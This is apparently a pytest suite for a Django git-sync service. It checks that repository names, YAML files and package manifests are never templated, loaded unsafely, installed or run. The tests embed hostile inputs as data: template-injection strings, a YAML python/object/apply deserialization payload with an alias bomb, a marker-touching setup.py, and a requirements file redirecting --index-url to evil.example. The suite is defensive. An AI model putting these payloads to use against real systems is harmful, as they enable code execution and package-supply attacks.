"""Rules of the security reference about what a repository may say, each by its name; with real git."""

from __future__ import annotations

import ast
import os
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from tests.repos.signing import GpgSigner
from tests.server.ui.cast import make_user
from tests.sync.cast import good

import jobyard
import jobyard_repos
import jobyard_server
import jobyard_sync
from jobyard_server.access.secrets import encrypt
from jobyard_server.isolation import containment
from jobyard_server.registry import exposure
from jobyard_server.registry.errors import RepositoryErrors
from jobyard_server.registry.models import GitRepository, Revision, Source
from jobyard_server.registry.repositories import add_repository, change_repository
from jobyard_server.registry.trusted_keys import add_trusted_key
from jobyard_server.runs.models import Component
from jobyard_server.runs.pid_space import pid_space

PRODUCT = [Path(package.__path__[0]) for package in (jobyard, jobyard_repos, jobyard_server, jobyard_sync)]
NAME = "{{ 7*7 }} {% debug %} ${HOME} {0.__class__} %(name)s"
MARKS = """
import pathlib
from setuptools import setup
pathlib.Path({mark!r}).touch()
setup(name="evil")
"""


def messages(result) -> list[str]:
    return [row.message for row in result.logs.all()]


@pytest.mark.django_db
def test_ur09_fields_of_a_repository_are_never_a_template(follow):
    followed = follow({"jobs/a.py": good()})
    change_repository(followed.repository, name=NAME, username="{{ 7*7 }}")
    followed.repo.commit({"jobs/a.py": good("Two")}, message="{{ 7*7 }} {0.__class__} %s")

    result = followed.sync()

    assert (result.name, result.status) == (NAME, "completed")
    assert f'Creating/refreshing local copy of Git repository "{NAME}"...' in messages(result)
    page = _pages(followed.repository)
    assert page.count("{{ 7*7 }}") >= 2
    assert "49 " not in page
    with pytest.raises(RepositoryErrors):
        change_repository(followed.repository, branch="{{ 7*7 }}")
    change_repository(followed.repository, branch="none-{7}")  # a name that git would allow
    failed = followed.sync()
    assert "none-{7}" in messages(failed)[-1]


def _pages(repository: GitRepository) -> str:
    client = Client()
    client.force_login(make_user("root", is_superuser=True))
    timeline = f"{repository.get_absolute_url()}revisions/{Revision.objects.first().pk}/"
    return "".join(
        client.get(path, follow=True).content.decode() for path in (repository.get_absolute_url(), timeline)
    )


@pytest.mark.django_db
def test_sg14_merges_by_a_button_of_a_forge_count_once_its_key_is_listed(follow, tmp_path):
    forge = GpgSigner(tmp_path / "forge", "forge")
    try:
        followed = follow({"jobs/a.py": good()})
        change_repository(followed.repository, signature_policy="require")
        first = followed.head
        merged = forge.commit(followed.repo.folder / ".git")

        refused = followed.sync()
        assert (refused.status, followed.head) == ("errored", first)
        assert "no GPG key is trusted here" in Source.objects.get(key="git.lab").error

        add_trusted_key("forge", forge.public, None)
        followed.sync()
        revision = Revision.objects.get(identifier=merged)
        assert (followed.head, revision.signature_state, revision.signature_signer) == (
            merged,
            "verified",
            "forge",
        )
    finally:
        forge.close()


@pytest.mark.django_db
def test_ld09_no_file_of_a_repository_configures_anything(follow, tmp_path):
    """There is no configuration in repositories, so YAML of theirs is a data file, whatever it is called."""
    mark = tmp_path / "mark"
    hostile = f"!!python/object/apply:os.mknod [{str(mark)!r}]\n" + "a: &a [x,x]\nb: [*a,*a,*a]\n"
    names = ("jobyard.yaml", ".jobyard.yml", ".nautobot.yml", "nautobot.yaml", "jobs/jobyard.yaml")

    followed = follow({"jobs/a.py": good(), **dict.fromkeys(names, hostile)})

    assert followed.installed == ["a/Hello"]
    assert Source.objects.get(key="git.lab").error == ""
    assert not mark.exists()


def test_ld09_yaml_is_read_for_authors_alone_and_safely():
    readers = {}
    for path in (path for folder in PRODUCT for path in folder.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imports = (node.names for node in ast.walk(tree) if isinstance(node, ast.Import))
        if "yaml" in {alias.name for names in imports for alias in names}:
            calls = (node.func for node in ast.walk(tree) if isinstance(node, ast.Call))
            readers[path.name] = {call.attr for call in calls if _is_yaml(call)}

    assert readers == {"data_files.py": {"safe_load"}}


def _is_yaml(call: ast.expr) -> bool:
    return isinstance(call, ast.Attribute) and isinstance(call.value, ast.Name) and call.value.id == "yaml"


@pytest.mark.django_db
def test_ld10_files_about_packages_are_shown_and_neither_installed_nor_executed(follow, tmp_path):
    mark = tmp_path / "mark"
    followed = follow(
        {
            "jobs/a.py": good(),
            "requirements.txt": "--index-url https://evil.example/\n-e .\nnetmiko>=4\npynetbox\n",
            "setup.py": MARKS.format(mark=str(mark)),
            "pyproject.toml": '[build-system]\nrequires = ["evil"]\n',
            "docs/requirements.txt": "sphinx\n",
        }
    )

    told = [text for text in messages(followed.sync()) if "jobyard installs nothing" in text]

    assert [text.partition(";")[0] for text in told] == [
        "`pyproject.toml` is about packages",
        "`requirements.txt` asks for `netmiko`, `pynetbox`",
        "`setup.py` is about packages",
    ]
    assert not mark.exists()


def test_db04_without_landlock_a_start_warns_of_the_embedded_database(monkeypatch, settings):
    settings.JOBYARD = {**settings.JOBYARD, "DATABASE_URL": None, "SANDBOX_LAUNCHER": "fork"}
    monkeypatch.setattr(containment.landlock, "version", lambda: 0)
    assert exposure.database_exposure().startswith("jobyard.W020: ")

    settings.JOBYARD = {**settings.JOBYARD, "DATABASE_URL": "postgresql://db.example/jobyard"}
    assert exposure.database_exposure() == ""

    settings.JOBYARD = {**settings.JOBYARD, "DATABASE_URL": None, "SANDBOX": "auto"}
    monkeypatch.setattr(containment.landlock, "version", lambda: 4)
    assert exposure.database_exposure() == ""


@pytest.mark.django_db
def test_cr11_without_landlock_and_with_one_account_a_start_warns_of_credentials(monkeypatch):
    repository = add_repository(name="Lab", remote_url="https://git.example/lab.git")
    Component.objects.create(
        kind="worker", hostname="here", pid=os.getpid(), pid_space=pid_space(), heartbeat_at=_later()
    )
    monkeypatch.setattr(containment.landlock, "version", lambda: 0)
    assert exposure.credential_exposure() == ""  # nothing to lose

    GitRepository.objects.filter(pk=repository.pk).update(token_encrypted=encrypt("token"))
    assert exposure.credential_exposure().startswith("jobyard.W021: ")
    assert exposure.credential_exposure(with_workers=True) == exposure.SENTENCE

    Component.objects.update(pid=1 if os.geteuid() else 2**22)  # of another account, or gone
    assert exposure.credential_exposure() == ""

    Component.objects.update(pid=os.getpid())
    monkeypatch.setattr(containment.landlock, "version", lambda: 4)
    assert exposure.credential_exposure(with_workers=True) == ""


def _later() -> datetime:
    return timezone.now() + timedelta(minutes=1)
